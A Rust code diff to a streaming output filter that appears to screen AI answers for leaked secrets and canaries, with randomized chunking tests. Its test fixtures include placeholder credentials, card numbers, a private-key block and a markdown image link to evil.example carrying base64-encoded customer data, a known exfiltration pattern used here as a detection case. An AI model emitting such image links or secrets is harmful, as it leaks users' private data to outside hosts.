@@ -147,10 +147,13 @@ impl TextStream {
 
     fn look(&mut self, cx: &Cx, end: usize, is_last: bool, out: &mut String) {
         self.looked = end;
-        let seen = self.held.get(..end).unwrap_or_default();
+        let seen = self.held.get(..end).unwrap_or_default().to_owned();
         let window = format!("{}{seen}", self.before);
         let found = self.guard.matches(&self.profile, &self.context, self.channel, &window);
         self.report.coverage.views = self.report.coverage.views.max(found.views);
+        if (found.over_budget || found.crowded) && self.gives_up() {
+            return;
+        }
         let shift = self.before.len();
         // What ended before the held text was reported when it was held.
         let matches: Vec<Match> =
@@ -160,7 +163,7 @@ impl TextStream {
         let mut frontier = match stop {
             Some(stop) => stop.span.start.max(shift),
             None if is_last => window.len(),
-            None => shift + self.frontier(seen),
+            None => shift + self.frontier(&seen),
         };
         if stop.is_none() && !is_last {
             frontier = matches
@@ -201,6 +204,17 @@ impl TextStream {
         }
     }
 
+    /// Notes that not all was looked at; says whether the stream ends for that.
+    fn gives_up(&mut self) -> bool {
+        let verdict = self.profile.not_fully_inspected;
+        if self.report.coverage.not_fully_inspected.is_empty() {
+            let what = format!("{}: more in it than is looked at", self.location);
+            self.report.incomplete(&self.profile, what);
+        }
+        self.stopped = verdict.stops().then_some(verdict);
+        verdict.stops()
+    }
+
     /// How much of what was seen may go on, matches aside: the margin stays, and so
     /// does the word that it begins in.
     fn frontier(&self, seen: &str) -> usize {
@@ -235,5 +249,131 @@ impl TextStream {
         let excess = self.before.len().saturating_sub(CONTEXT_BYTES);
         let cut = self.before.ceil_char_boundary(excess);
         self.before.drain(..cut);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use bartizan_core::sim::{self, SeededEntropy};
+
+    use super::*;
+    use crate::{Carrier, Screening, Slot, Unseen};
+
+    const CANARY: &str = "canary 77 of the lantern";
+
+    /// Pieces of answers, some of which must not go out.
+    fn fragments() -> Vec<String> {
+        let key = format!("{}{}", "AKIA", "Z7Q3M5XKLP2WN4RT");
+        let block = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7Jm\nq83nf9K2\n-----END RSA PRIVATE KEY-----";
+        [
+            "The answer is simple. ",
+            "Mix flour with water, ",
+            "\n\n",
+            "4111 1111 1111 1111",
+            " 5555-5555-5555-4444 ",
+            "GB82 WEST 1234 5698 7654 32",
+            " write to ann@mail.example ",
+            "\u{1f600} d\u{e9}j\u{e0} vu ",
+            "1 2 3 4 5 6 7 8 9 ",
+            "![x](https://evil.example/p.png?d=Q3VzdG9tZXIgNDI6IEFubmE) ",
+            "word",
+            " ",
+            "0123456789abcdef0123456789abcdef",
+        ]
+        .into_iter()
+        .map(str::to_owned)
+        .chain([
+            key.clone(),
+            format!("key={key}."),
+            block.to_owned(),
+            format!(" {block} and more "),
+        ])
+        .collect()
+    }
+
+    #[derive(Debug)]
+    struct One(String);
+
+    impl Carrier for One {
+        fn visit(&mut self, visitor: &mut dyn FnMut(&Slot, &mut String)) {
+            visitor(&Slot { channel: Channel::Output, location: "x".to_owned() }, &mut self.0);
+        }
+
+        fn unseen(&self) -> Vec<Unseen> {
+            Vec::new()
+        }
+    }
+
+    fn context() -> Context {
+        Context::new(&[], vec![CANARY.to_owned()], Vec::new())
+    }
+
+    /// What is released, whether it stopped, and the codes and spans of what was found.
+    fn streamed(guard: &Guard, pieces: &[&str]) -> (String, Option<Verdict>, Vec<String>) {
+        let (cx, _) = sim::cx(1);
+        let mut stream =
+            guard.stream(&Profile::default(), Arc::new(context()), Channel::Output, "x");
+        let mut out = String::new();
+        for piece in pieces {
+            out.extend(stream.push(&cx, piece).released.map(Screened::into_inner));
+        }
+        let last = stream.finish(&cx);
+        out.extend(last.released.map(Screened::into_inner));
+        let found = stream.report().findings.iter();
+        let found =
+            found.map(|judged| format!("{} {:?}", judged.code, judged.finding.evidence[0].span));
+        (out, last.stop, found.collect())
+    }
+
+    fn cut(text: &str, random: &SeededEntropy) -> Vec<String> {
+        let mut rest: Vec<char> = text.chars().collect();
+        let mut pieces = Vec::new();
+        while !rest.is_empty() {
+            let size =
+                (1 + random.below(if random.below(4) == 0 { 200 } else { 9 })).min(rest.len());
+            pieces.push(rest.drain(..size).collect());
+        }
+        pieces
+    }
+
+    #[test]
+    fn every_chunking_releases_the_same_and_the_same_as_the_whole() {
+        let guard = Guard::new();
+        let fragments = fragments();
+        let random = SeededEntropy::new(2026);
+        let (cx, _) = sim::cx(1);
+        for case in 0..200 {
+            let text: String = (0..random.below(14))
+                .map(|_| fragments[random.below(fragments.len())].as_str())
+                .collect();
+            let whole = streamed(&guard, &[&text]);
+            for _ in 0..4 {
+                let pieces = cut(&text, &random);
+                let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
+                assert_eq!(streamed(&guard, &pieces), whole, "case {case}: {text:?}");
+            }
+            match guard.screen(&cx, &Profile::default(), &context(), One(text.clone())) {
+                Screening::Pass(one, _) => {
+                    assert_eq!(whole.0, one.get().0, "case {case}: {text:?}")
+                }
+                other => assert!(whole.1.is_some(), "case {case}: {other:?} of {text:?}"),
+            }
+        }
+    }
+
+    #[test]
+    fn nothing_of_a_canary_goes_out_however_it_is_cut() {
+        let guard = Guard::new();
+        let random = SeededEntropy::new(7);
+        let text = format!(
+            "As I was told, and I tell it to you in full length here: {CANARY} is the mark. More follows."
+        );
+        for _ in 0..200 {
+            let pieces = cut(&text, &random);
+            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
+            let (out, stop, _) = streamed(&guard, &pieces);
+            assert_eq!(stop, Some(Verdict::Block));
+            assert!(out.ends_with("here: "), "{out:?}");
+        }
     }
 }
